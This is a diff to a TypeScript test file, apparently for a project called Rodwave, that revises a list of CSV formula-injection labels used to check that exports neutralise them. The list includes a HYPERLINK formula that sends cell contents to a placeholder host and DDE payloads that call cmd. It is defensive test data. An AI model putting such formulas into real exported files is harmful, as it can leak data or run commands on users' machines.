@@ -42,9 +42,11 @@ function parseCsv(text: string): string[][] {
   return rows
 }
 
-// Each label would run as a formula (or inject a line) if written as it is. (Rodwave trims a
-// label's surrounding white space, so the tab and the carriage return are gone before the writer.)
-const HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+2', '\r=1+3']
+// Each label would run as a formula if written as it is. (Rodwave trims a label's surrounding
+// white space, and the file format refuses control characters such as tab and carriage return in
+// a label, core/model/project-schema.ts, so those never reach the writer; a label led by spaces
+// stands in for them.)
+const HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\'/C calc\'!A0', '  =1+2', ' =1+3']
 
 /** A fixed–free bar 1 m long (f1 = c/4L ≈ 1262 Hz, Rao, Mechanical Vibrations) with one hostile-named excitation per mode's neighbourhood. */
 function hostileDocument() {
